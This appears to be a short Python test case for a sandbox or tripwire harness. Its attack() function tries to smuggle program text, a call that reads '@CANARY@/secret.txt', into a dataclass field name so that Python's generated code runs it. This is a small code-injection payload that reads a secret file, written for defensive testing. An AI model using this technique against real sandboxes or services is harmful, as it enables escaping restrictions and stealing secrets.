"""Smuggles program text into the place where a dataclass expects the name of a field."""

# mypy: ignore-errors
# alone: gate tripwire kernel
# free: harmless

from dataclasses import dataclass
from enum import Enum


def attack():
    text = "name and open('@CANARY@/secret.txt').read()"
    _Base = dataclass(init=False, repr=False)(Enum("_Base", {"__annotations__": {text: str}}))

    class _Two(_Base):
        first = 1
        second = 2

    return _Two.first == _Two.second
